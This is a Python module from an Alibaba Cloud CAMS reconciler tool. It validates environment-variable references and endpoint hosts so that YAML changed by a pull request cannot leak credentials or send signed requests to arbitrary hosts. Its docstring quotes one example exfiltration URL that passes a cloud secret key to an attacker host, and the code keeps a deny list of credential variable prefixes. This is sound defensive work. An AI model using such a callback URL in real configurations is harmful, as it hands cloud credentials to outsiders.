"""The two boundaries a repository's YAML cannot move: which environment variables it may read, and which
hosts it may send signed requests to. Both are set in the environment of the job (outside the repository),
because a pull request is all it takes to change the YAML.

- **Env references.** ``${env:NAME}`` in a callback URL and ``verify_code_env: NAME`` send the variable's
  value to CAMS (as a URL the platform then calls, or as a verify code). A name is accepted only with the
  prefix ``CAMS_SECRET_`` (``CAMS_RECONCILER_ENV_PREFIX`` sets another), and never one of the tool's own
  credential, key and configuration variables (``ALIBABA_CLOUD_*``, ``CAMS_RECONCILER_*``, the CI runner's
  ``GITHUB_*``/``ACTIONS_*``, and the variables ``accounts:`` names for credentials), whatever the prefix.
  Otherwise ``https://attacker.example/cb?t=${env:ALIBABA_CLOUD_ACCESS_KEY_SECRET}`` would hand the key to
  whoever the platform posts status reports to.
- **Endpoints.** ``accounts[].endpoint`` (and any endpoint a YAML names) must be Alibaba Cloud's own
  (``aliyuncs.com`` and its subdomains: ``cams.<region>.aliyuncs.com``, ``business.aliyuncs.com``, VPC forms)
  or loopback (the bundled emulator); ``CAMS_RECONCILER_ALLOWED_ENDPOINTS`` adds hosts (comma-separated:
  ``proxy.corp.example``, ``*.corp.example`` for its subdomains, ``host:port`` for one port). Otherwise a pull
  request's plan job would send its signed requests, STS token in a header, to any host.

The functions return the reason a value is outside its boundary (one line, never the value of a variable),
or None; the config rules place it at file:line:col, the client raises it as a configuration error.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Mapping
from urllib.parse import urlsplit

ENV_PREFIX_ENV = "CAMS_RECONCILER_ENV_PREFIX"
DEFAULT_ENV_PREFIX = "CAMS_SECRET_"
ALLOWED_ENDPOINTS_ENV = "CAMS_RECONCILER_ALLOWED_ENDPOINTS"
#: Variables no YAML may read, whatever the prefix: the tool's own and the CI runner's.
RESERVED_PREFIXES = ("ALIBABA_CLOUD_", "CAMS_RECONCILER_", "GITHUB_", "ACTIONS_")
#: Alibaba Cloud's API domain: every endpoint the client builds (``client/endpoints.py``) is under it.
CLOUD_DOMAINS = ("aliyuncs.com",)
_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
_LOOPBACK_NAMES = frozenset({"localhost", "localhost.localdomain", "ip6-localhost"})


def env_prefix(env: Mapping[str, str]) -> str:
    """The prefix env references must have (``CAMS_SECRET_`` unless the environment sets another)."""
    return (env.get(ENV_PREFIX_ENV) or "").strip() or DEFAULT_ENV_PREFIX


def env_prefix_problem(env: Mapping[str, str]) -> str | None:
    """Why the configured prefix cannot be used (it must be a variable-name start of 2+ characters)."""
    prefix = env_prefix(env)
    if len(prefix) < 2 or not _NAME.match(prefix):
        return (f"{ENV_PREFIX_ENV} must be the start of a variable name of at least 2 characters (letters, "
                f"digits, _), such as {DEFAULT_ENV_PREFIX}")
    return None


def env_name_problem(name: str, env: Mapping[str, str], account_variables: Collection[str] = ()) -> str | None:
    """Why the YAML may not read the variable ``name`` (None: it may)."""
    reserved = next((p for p in RESERVED_PREFIXES if name.upper().startswith(p)), None)
    if reserved is not None:
        return (f"may not read {name}: {reserved}* variables hold the tool's own credentials, keys and "
                "settings, which no YAML may send anywhere")
    if name in account_variables:
        return f"may not read {name}: `accounts:` names it for an account's credentials"
    prefix = env_prefix(env)
    if not name.startswith(prefix):
        return (f"may read only variables named {prefix}* (set outside the repository by {ENV_PREFIX_ENV}); "
                f"rename {name} to {prefix}{name} in the YAML and in the job's environment")
    return None


def _allowed_entries(env: Mapping[str, str]) -> list[str]:
    return [e.strip().lower() for e in (env.get(ALLOWED_ENDPOINTS_ENV) or "").split(",") if e.strip()]


def _is_loopback(host: str) -> bool:
    if host in _LOOPBACK_NAMES:
        return True
    import ipaddress  # only for a host that is neither a name on the list nor Alibaba Cloud's

    try:
        return ipaddress.ip_address(host.strip("[]")).is_loopback
    except ValueError:
        return False


def _entry_matches(entry: str, host: str, port: int | None) -> bool:
    entry = entry.split("://", 1)[-1].rstrip("/")
    want_port: int | None = None
    name = entry
    if entry.count(":") == 1 and entry.rsplit(":", 1)[1].isdigit():
        name, _, digits = entry.rpartition(":")
        want_port = int(digits)
    if want_port is not None and want_port != port:
        return False
    if name.startswith("*."):
        return host.endswith(name[1:])
    return host == name


def base_url(value: str, *, bare_host: bool = False) -> tuple[str, str]:
    """(scheme, host[:port] in lower case) of an endpoint given as a base URL: ``http(s)://host[:port]`` and
    nothing after it but ``/`` (no credentials, path, query or fragment); with ``bare_host`` a host alone is
    taken as https. ValueError with the reason otherwise (never quoting the value: callers show it masked)."""
    text = value.strip()
    if bare_host and "://" not in text:
        text = "https://" + text
    try:
        parts = urlsplit(text)
        parts.port  # noqa: B018 - raises ValueError on a bad port
    except ValueError as exc:
        raise ValueError(str(exc)) from None
    if parts.scheme not in ("http", "https") or not parts.hostname:
        raise ValueError("expected http(s)://host[:port]")
    if parts.path not in ("", "/") or parts.query or parts.fragment or parts.username or parts.password:
        raise ValueError("give only scheme, host and port (no credentials, path, query or fragment)")
    return parts.scheme, parts.netloc.lower()


def endpoint_problem(url: str, env: Mapping[str, str]) -> str | None:
    """Why signed requests must not be sent to ``url``'s host (None: the host is allowed)."""
    text = url.strip()
    try:
        parts = urlsplit(text if "://" in text else "https://" + text)
        host = (parts.hostname or "").lower().rstrip(".")
        port = parts.port
    except ValueError:
        return None  # not a URL: the URL rules say so
    if not host:
        return None
    if any(host == d or host.endswith("." + d) for d in CLOUD_DOMAINS) or _is_loopback(host):
        return None
    if any(_entry_matches(e, host, port) for e in _allowed_entries(env)):
        return None
    return (f"host {host} is not an allowed endpoint: signed requests (and the STS token) go only to Alibaba "
            f"Cloud's own domains ({', '.join('*.' + d for d in CLOUD_DOMAINS)}), loopback, or hosts listed in "
            f"{ALLOWED_ENDPOINTS_ENV} in the environment of the job")
